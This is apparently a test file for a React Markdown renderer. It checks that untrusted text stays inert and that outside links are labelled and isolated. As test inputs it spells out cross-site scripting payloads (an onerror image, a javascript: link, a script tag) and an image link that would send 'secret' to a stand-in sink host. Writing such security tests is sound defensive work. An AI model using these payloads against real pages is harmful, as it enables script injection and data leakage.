import { render, screen } from "@testing-library/react";
import { MemoryRouter } from "react-router";
import { expect, test } from "vitest";
import { TooltipProvider } from "@/kit/ui/tooltip";
import { Markdown } from "./markdown";

const draw = (text: string, growing = false) =>
  render(
    <MemoryRouter>
      <TooltipProvider>
        <Markdown text={text} growing={growing} />
      </TooltipProvider>
    </MemoryRouter>,
  );

test("nothing in a text can load or run: pictures are named, HTML is text, a script address is no link", () => {
  const { container } = draw('![chart](http://sink.example/?q=secret) <img src="http://sink.example/" onerror="alert(1)"> [press](javascript:alert(1)) <script>alert(1)</script>');
  expect(container.querySelector("img, script, iframe, a")).toBeNull();
  expect(container.textContent).toContain("[picture: chart]");
  expect(container.textContent).toContain('<img src="http://sink.example/" onerror="alert(1)">');
});

test("links into the application stay in it, others open apart and tell the other side nothing", () => {
  draw("[invoice](/invoices/1) [docs](https://example.com/x) [other](//evil.example)");
  expect(screen.getByRole("link", { name: "invoice" })).not.toHaveAttribute("target");
  for (const name of ["docs", "other"]) expect(screen.getByRole("link", { name })).toHaveAttribute("rel", "noopener noreferrer nofollow");
});

test("where a link leads is written beside it, unless its words say so", () => {
  const { container } = draw("[more](https://sink.example/?q=secret) <https://docs.example/a>");
  expect(container.textContent).toContain("more (sink.example)");
  expect(container.textContent).not.toContain("(docs.example)");
});

test("tables, lists and code are drawn, finished or still growing", () => {
  const text = "| a | b |\n|---|--:|\n| x | 1 |\n\n1. one\n2. two\n\n```py\na = 1\n```\n\nEnd";
  const { container, unmount } = draw(text, true);
  const growing = container.textContent.replaceAll(/\s/g, "");
  unmount();
  const { container: finished } = draw(text);
  expect(finished.textContent.replaceAll(/\s/g, "")).toBe(growing);
  expect(screen.getByRole("columnheader", { name: "b" })).toBeInTheDocument();
  expect(screen.getAllByRole("listitem")).toHaveLength(2);
  expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
});
